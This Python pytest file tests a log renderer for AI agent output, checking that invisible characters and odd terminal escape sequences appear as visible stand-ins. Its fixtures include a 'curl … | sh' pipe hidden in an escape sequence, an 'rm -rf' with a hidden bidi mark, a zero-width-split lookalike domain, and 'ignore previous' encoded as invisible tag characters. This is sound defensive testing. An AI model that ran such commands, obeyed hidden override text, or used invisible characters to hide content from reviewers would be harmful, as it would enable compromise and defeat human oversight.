"""Hidden text in agent output is shown, never hidden or deleted: in the text and HTML views.

A CSI sequence that is not colour or cursor movement keeps its bytes on screen
(its parameters may be the command a reader must see); zero-width characters,
bidirectional marks and Unicode tag characters (which spell hidden ASCII)
become visible stand-ins.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from linewise.cli import main

TAG_TEXT = "".join(chr(0xE0000 + ord(char)) for char in "ignore previous")
HIDDEN = {
    # A command whose pipe hides in a CSI sequence's intermediate and final bytes.
    "curl x.example/i.sh\x1b[ | sh": "curl x.example/i.sh␛[ | sh",
    "pay\u200bpal.example": "pay<U+200B>pal.example",
    "rm -rf \u200f/tmp/x": "rm -rf <U+200F>/tmp/x",
    "ok\u2060\ufeffdone": "ok<U+2060><U+FEFF>done",
    f"summary{TAG_TEXT} done": "summary<tags:ignore previous> done",
}


@pytest.mark.parametrize("view", ["text", "html"])
def test_hidden_text_is_shown_in_every_view(
    view: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "agent.log"
    log.write_text("".join(line + "\n" for line in HIDDEN), encoding="utf-8")
    capsys.readouterr()
    assert main(["render", "-a", "process", "-f", view, str(log)]) == 0
    out = capsys.readouterr().out
    for shown in HIDDEN.values():
        expected = shown if view == "text" else shown.replace("<", "&lt;").replace(">", "&gt;")
        assert expected in out
    hidden_chars = {chr(c) for c in (0x200B, 0x200F, 0x2060, 0xFEFF, 0x1B)} | set(TAG_TEXT)
    assert not hidden_chars & set(out)


def test_emoji_joined_by_invisible_characters_stay_emoji(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    scotland = "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "gbsct") + "\U000e007f"
    log = tmp_path / "emoji.log"
    log.write_text(f"{family} {scotland}\n", encoding="utf-8")
    capsys.readouterr()
    assert main(["render", "-a", "process", "-f", "text", str(log)]) == 0
    assert f"{family} {scotland}" in capsys.readouterr().out
